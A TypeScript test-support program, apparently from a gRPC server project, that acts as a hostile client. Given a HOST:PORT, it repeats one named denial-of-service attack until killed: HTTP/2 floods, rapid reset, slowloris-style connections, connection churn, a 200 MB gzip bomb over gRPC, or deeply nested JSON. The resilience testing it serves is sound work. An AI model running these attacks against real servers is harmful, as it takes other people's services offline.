// A hostile peer of `attacks`: a process of its own, which repeats one attack on a server until it
// is killed, and connects again whenever it was cut.
//   node attacker.ts HOST:PORT ATTACK
import { request } from "node:http";
import http2 from "node:http2";
import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";
import { FLOODS, rapidResets, times } from "../test/support/http2-bytes.ts";

const [address = "", attack = ""] = process.argv.slice(2);
const [host = "", port = ""] = address.split(":");
const PATH = "/drover.v1.SchedulerService/GetRun";
const CONNECTIONS = 2;
const FRAMES = 2_000;
const RESETS = 900;
const SILENT = 1_000;
/** A peer that was cut tries again after this. */
const AGAIN_MS = 10;
const bomb = gzipSync(Buffer.alloc(200 * 2 ** 20));
const deepJson = "[".repeat(200_000);

function open(onOpen: (socket: Socket) => void): void {
  const socket = connect({ host, port: Number(port) });
  socket.on("error", () => undefined).resume();
  socket.once("connect", () => onOpen(socket));
  socket.once("close", () => setTimeout(() => open(onOpen), AGAIN_MS));
}

/** Writes the same bytes again and again, as fast as they are taken. */
function pour(opening: Buffer, repeated: Buffer): void {
  for (let n = 0; n < CONNECTIONS; n++)
    open((socket) => {
      const send = () => {
        while (!socket.destroyed && socket.write(repeated));
      };
      socket.on("drain", send);
      socket.write(opening);
      send();
    });
}

function silent(bytes: string): void {
  for (let n = 0; n < SILENT; n++) open((socket) => void (bytes !== "" && socket.write(bytes)));
}

/** Calls over gRPC one after the other, each with the bomb. */
function bombs(): void {
  const head = Buffer.alloc(5);
  head.writeUInt8(1);
  head.writeUInt32BE(bomb.length, 1);
  const session = http2.connect(`http://${address}`);
  session.on("error", () => undefined);
  const call = (): void => {
    const type = { "content-type": "application/grpc", "grpc-encoding": "gzip" };
    const stream = session.request({ ":method": "POST", ":path": PATH, ...type });
    stream.on("error", () => undefined).resume();
    stream.once("close", call);
    stream.end(Buffer.concat([head, bomb]));
  };
  call();
}

function nested(): void {
  const headers = { "content-type": "application/json", "content-length": deepJson.length };
  const options = { host, port, path: PATH, method: "POST", headers };
  const call = request(options, (answer) => void answer.resume());
  call.on("error", () => undefined);
  call.once("close", () => setImmediate(nested));
  call.end(deepJson);
}

const OTHERS: Readonly<Record<string, () => void>> = {
  "rapid reset": () => {
    for (let n = 0; n < CONNECTIONS; n++)
      open((socket) => void socket.write(rapidResets(RESETS, PATH)));
  },
  "silent connections": () => silent(""),
  "slow headers": () => silent("GET / HTTP/1.1\r\nhost: localhost\r\nx: "),
  "new connections": () => {
    for (let n = 0; n < SILENT / 10; n++) open((socket) => void socket.destroy());
  },
  "gzip bomb": bombs,
  "deep JSON": nested,
};

const flood = Object.entries(FLOODS).find(([name]) => name === attack)?.[1];
if (flood) {
  const made = flood(PATH);
  pour(made.opening, times(FRAMES, made));
} else OTHERS[attack]?.();
process.send?.("ready");
